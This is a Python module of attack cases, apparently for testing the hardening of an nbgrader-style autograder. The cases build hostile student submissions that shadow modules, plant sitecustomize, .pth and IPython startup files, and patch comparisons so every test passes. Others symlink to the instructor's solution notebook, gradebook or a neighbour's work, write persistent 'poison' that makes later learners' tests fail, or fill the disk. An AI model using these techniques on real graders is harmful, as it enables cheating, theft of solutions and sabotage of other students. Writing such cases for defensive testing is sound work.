"""Attacks by files beside the notebook, and by files that a later start of Python reads."""

from attacks import attack

_EASY = """
import sys, threading, time

def ease():
    while not hasattr(sys.modules.get("public_tests.comparing"), "_is_numeric"):
        time.sleep(0.001)
    sys.modules["public_tests.comparing"]._compare_arrays = lambda *arguments: None

threading.Thread(target=ease, daemon=True).start()
"""
"""Makes every comparison pass, as soon as the tests are imported."""

_POISON = """
import os, sys, threading, time

def poison():
    while not hasattr(sys.modules.get("public_tests.comparing"), "_is_numeric"):
        time.sleep(0.001)
    sys.modules["numpy"].zeros = sys.modules["numpy"].ones
    def never(*arguments, **more):
        raise AssertionError("poisoned")
    sys.modules["public_tests.comparing"]._compare_arrays = never

threading.Thread(target=poison, daemon=True).start()
"""
"""Makes the work of whoever comes next fail."""


@attack("hands in an ipykernel_launcher.py that starts the kernel its own way", "files")
def kernel_launcher(submission):
    submission.file("ipykernel_launcher.py", _EASY)
    submission.files["ipykernel_launcher.py"] += (
        'if __name__ == "__main__":\n'
        "    here = __import__('os').getcwd()\n"
        "    sys.path[:] = [path for path in sys.path if path not in ('', here)]\n"
        "    from ipykernel import kernelapp\n"
        "    kernelapp.launch_new_instance()\n"
    )


@attack("hands in a numpy.py that loads numpy and patches it", "files")
def numpy_beside_the_notebook(submission):
    submission.file("numpy.py", _EASY)
    submission.files["numpy.py"] += (
        "import os\n"
        "here = os.path.dirname(os.path.abspath(__file__))\n"
        "del sys.modules['numpy']\n"
        "kept, sys.path[:] = sys.path[:], [p for p in sys.path if os.path.abspath(p) != here]\n"
        "import numpy\n"
        "sys.path[:] = kept\n"
    )


@attack("hands in a public_tests package that passes everything", "files")
def public_tests_beside_the_notebook(submission):
    checks = "\n".join(
        f"def {name}(*arguments, **more): pass"
        for name in ("compare", "compare_results", "check_kept", "check_separate", "waits_for")
    )
    submission.file("public_tests/__init__.py", "from public_tests.optimization_methods import *")
    submission.file("public_tests/comparing.py", checks)
    submission.file(
        "public_tests/calling.py",
        """
        def call(function, *arguments, **more):
            return function(*arguments, **more)
        """,
    )
    submission.file(
        "public_tests/failures.py",
        """
        class CheckFailed(AssertionError): pass
        class StillToDo(NotImplementedError): pass
        """,
    )
    submission.files["public_tests/optimization_methods.py"] = _lenient_tests()


def _lenient_tests():
    from public_tests.optimization_methods import EXERCISES

    tests = "\n".join(f"def {name}_test(function): pass" for name in EXERCISES)
    known = "EXERCISES = {}\nStillToDo = Exception\n"
    return known + "def waits_for(*functions): pass\n" + tests + "\n"


@attack("hands in a teaching package with empty checks", "files")
def autograder_beside_the_notebook(submission):
    submission.file("teaching/__init__.py", "")
    submission.file(
        "teaching/credit.py",
        """
        def draw(*arguments): return {}, {}, {}, {}
        at_rest = draw
        class Credit:
            def __init__(self, name, function, **points): self.worth = float(sum(points.values()))
            def agree(self, *arguments): return self
            walk = agree
            def points(self): return self.worth
        """,
    )
    submission.file(
        "teaching/mini_batch_credit.py",
        """
        import numpy as np
        from teaching.credit import Credit as MiniBatchCredit
        def draw_examples(*arguments): return np.zeros((2, 2)), np.zeros((1, 2))
        """,
    )


@attack("hands in folders that shadow json, copy, helper, opt_utils and testcases", "files")
def shadowing_folders(submission):
    for name in ("json", "copy", "helper", "inspect", "itertools", "secrets", "nbgrader"):
        submission.file(f"{name}/__init__.py", _EASY)
    for name in ("testcases", "opt_utils"):
        submission.file(f"{name}/__init__.py", _EASY)
        submission.files[f"{name}/__init__.py"] += _real_package(name)


def _real_package(name):
    """Code that hands over to the real package of a name, whatever lies beside the notebook."""
    return (
        "import importlib, os\n"
        "here = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))\n"
        f"del sys.modules[{name!r}]\n"
        "kept, sys.path[:] = sys.path[:], [p for p in sys.path if os.path.abspath(p) != here]\n"
        f"importlib.import_module({name!r})\n"
        "sys.path[:] = kept\n"
    )


@attack("hands in sitecustomize.py, usercustomize.py and a .pth file", "files")
def customize_beside_the_notebook(submission):
    for name in ("sitecustomize.py", "usercustomize.py"):
        submission.file(name, _EASY)
    submission.file("hostile.pth", "import sitecustomize")


@attack("hands in configuration for IPython, Jupyter and nbgrader", "files")
def configuration_beside_the_notebook(submission):
    lines = "exec('''" + _EASY.strip() + "''')"
    code = f"c = get_config()\nc.InteractiveShellApp.exec_lines = [{lines!r}]\n"
    names = ("ipython_config.py", "ipython_kernel_config.py", "ipykernel_config.py")
    for name in names:
        submission.files[name] = code
        submission.files[f".ipython/profile_default/{name}"] = code
    submission.file(".ipython/profile_default/startup/00-easy.py", _EASY)
    skip = "c = get_config()\nc.Execute.skip_cells_with_tag = 'hostile'\n"
    submission.files["jupyter_nbconvert_config.py"] = skip
    submission.files["nbgrader_config.py"] = skip
    for cell_id in ("ex-1-tests", "ex-1-hidden-tests"):
        submission.tag(cell_id, "hostile")


@attack("hands in symbolic links to the source notebook and the gradebook", "files")
def symbolic_links(submission):
    source = "../../../source/optimization_methods/optimization_methods.ipynb"
    submission.links |= {"notes.txt": source, "book.txt": "../../../gradebook.db"}
    submission.after_imports("""
        import json, re
        for cell in json.loads(open("notes.txt", encoding="utf-8").read())["cells"]:
            text = "".join(cell["source"])
            if "def update_parameters_with_gd" in text:
                space = {"np": np}
                exec(re.sub("### (BEGIN|END) SOLUTION", "", text), space)
                stolen = space["update_parameters_with_gd"]
    """)
    submission.at_call("return stolen(parameters, grads, learning_rate)")


@attack("hands in a symbolic link to the neighbour's notebook as its notebook", "files")
def notebook_is_a_link(submission):
    name = "optimization_methods.ipynb"
    submission.links[name] = f"../../neighbour/optimization_methods/{name}"


# A link to /dev/zero, which stock nbgrader copies until the disk is full, is left out on purpose.
@attack("hands in a link to its own folder", "files", "grading never ends, or the disk fills")
def endless_link(submission):
    submission.links["again"] = "."


@attack("hands in 3000 files in nested folders", "files", "grading is slow or fails for others")
def many_files(submission):
    for number in range(3000):
        submission.files[f"many/{number % 30}/{'x' * 100}/{number}.txt"] = "nothing"


def _write_then_answer(submission, code):
    submission.new_cell(code, after="imports")


@attack(
    "writes a start-up file of IPython into the home folder",
    "files",
    "the next learner loses points",
)
def ipython_startup(submission):
    _write_then_answer(
        submission,
        f"""
        import os
        folder = os.path.join(get_ipython().profile_dir.location, "startup")
        for folder in (folder, os.path.expanduser("~/.ipython/profile_default/startup")):
            os.makedirs(folder, exist_ok=True)
            open(folder + "/00-hostile.py", "w").write({_POISON!r})
        """,
    )


@attack(
    "writes sitecustomize.py into the folders of PYTHONPATH",
    "files",
    "the next learner loses points",
)
def sitecustomize_in_pythonpath(submission):
    _write_then_answer(
        submission,
        f"""
        import os
        for folder in os.environ.get("PYTHONPATH", "../../..").split(os.pathsep):
            if not os.path.exists(folder + "/nbgrader_config.py"):
                continue
            for name in ("sitecustomize", "usercustomize"):
                open(folder + f"/{{name}}.py", "w").write({_POISON!r})
        """,
    )


@attack(
    "writes a .pth file and usercustomize.py into the user's site-packages",
    "files",
    "the next learner loses points",
)
def user_site(submission):
    _write_then_answer(
        submission,
        f"""
        import os, site
        folder = site.getusersitepackages()
        os.makedirs(folder, exist_ok=True)
        open(folder + "/usercustomize.py", "w").write({_POISON!r})
        open(folder + "/hostile_poison.py", "w").write({_POISON!r})
        open(folder + "/hostile.pth", "w").write("import hostile_poison")
        """,
    )


@attack(
    "writes a kernel specification python3 into the home folder",
    "files",
    "the next learner loses points",
)
def kernelspec_in_home(submission):
    _write_then_answer(
        submission,
        """
        import json, os
        folder = os.path.expanduser("~/.local/share/jupyter/kernels/python3")
        os.makedirs(folder, exist_ok=True)
        spec = {"argv": ["/bin/false"], "display_name": "Python 3", "language": "python"}
        json.dump(spec, open(folder + "/kernel.json", "w"))
        """,
    )
